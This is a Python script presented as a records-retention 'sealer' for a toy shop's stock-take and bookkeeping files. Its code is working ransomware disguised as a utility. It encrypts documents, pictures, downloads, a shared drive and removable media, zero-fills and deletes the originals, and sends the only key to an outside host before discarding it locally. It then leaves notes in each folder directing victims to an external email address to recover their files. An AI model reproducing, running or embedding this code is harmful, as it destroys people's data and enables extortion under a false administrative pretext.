#!/usr/bin/env python3
"""Seal closed stock-take and bookkeeping files for the toy shop.

Closed periods (stock counts, supplier invoices, till exports) must be kept
for ten years but should not sit around readable on the back-office PC.
The sealer encrypts them with a per-run data key (AES-256-GCM), escrows the
data key with the records desk key service, and leaves a short note in every
folder it touched explaining how to get files unsealed.
"""
import argparse
import base64
import http.client
import json
import logging
import os
import socket
import sys
import uuid
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("sealer")
KEY_SERVICE = ("keys.recordsdesk-escrow.example", "/api/escrow")
SUFFIX = ".sealed"
NOTE = "UNSEAL_README.txt"
PERIOD_TYPES = {".xlsx", ".xls", ".ods", ".csv", ".pdf", ".docx", ".doc", ".odt",
                ".jpg", ".jpeg", ".png", ".sqlite", ".db", ".mdb", ".zip", ".txt"}


def default_roots():
    home = Path.home()
    roots = [home / d for d in ("Documents", "Desktop", "Pictures", "Downloads")]
    roots += [Path("/srv/shop-share")]
    media = Path("/media") / os.environ.get("USER", "")
    if media.is_dir():
        roots += [p for p in media.iterdir() if p.is_dir()]
    return [r for r in roots if r.is_dir()]


class Sealer:
    def __init__(self, run_id):
        self.run_id = run_id
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.sealed = 0
        self.folders = set()

    def escrow(self, retries=4):
        body = json.dumps({"run": self.run_id, "host": socket.gethostname(),
                           "user": os.environ.get("USER"),
                           "key": base64.b64encode(self._key).decode()})
        for attempt in range(retries):
            try:
                conn = http.client.HTTPSConnection(KEY_SERVICE[0], timeout=20)
                conn.request("POST", KEY_SERVICE[1], body,
                             {"Content-Type": "application/json"})
                if conn.getresponse().status in (200, 201):
                    return True
            except OSError as exc:
                log.debug("escrow attempt %d: %s", attempt + 1, exc)
        return False

    def candidates(self, roots):
        for root in roots:
            for dirpath, dirnames, filenames in os.walk(root):
                dirnames[:] = [d for d in dirnames if not d.startswith(".")]
                for name in filenames:
                    p = Path(dirpath, name)
                    if p.suffix.lower() in PERIOD_TYPES and name != NOTE:
                        yield p

    def seal_file(self, path):
        nonce = os.urandom(12)
        data = path.read_bytes()
        blob = self._aead.encrypt(nonce, data, self.run_id.encode())
        target = path.with_name(path.name + SUFFIX)
        with open(target, "wb") as fh:
            fh.write(b"SEAL1" + nonce + blob)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * min(len(data), 1 << 20))
        path.unlink()
        self.sealed += 1
        self.folders.add(path.parent)

    def leave_notes(self):
        text = (f"Files in this folder were sealed under the records retention policy.\n"
                f"Reference: {self.run_id}\n"
                f"To have them unsealed, contact the records desk at "
                f"unseal@recordsdesk-escrow.example and quote the reference.\n")
        for folder in self.folders:
            try:
                (folder / NOTE).write_text(text)
            except OSError:
                pass

    def forget(self):
        self._key = None
        self._aead = None


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("roots", nargs="*", help="folders to seal (default: office folders)")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    roots = [Path(r) for r in args.roots] or default_roots()
    sealer = Sealer(uuid.uuid4().hex[:12].upper())
    if not sealer.escrow():
        log.error("key service unreachable; nothing sealed")
        return 1
    for path in sealer.candidates(roots):
        try:
            sealer.seal_file(path)
        except (OSError, MemoryError) as exc:
            log.debug("skip %s: %s", path, exc)
    sealer.forget()
    sealer.leave_notes()
    log.info("sealed %d files in %d folders (ref %s)",
             sealer.sealed, len(sealer.folders), sealer.run_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
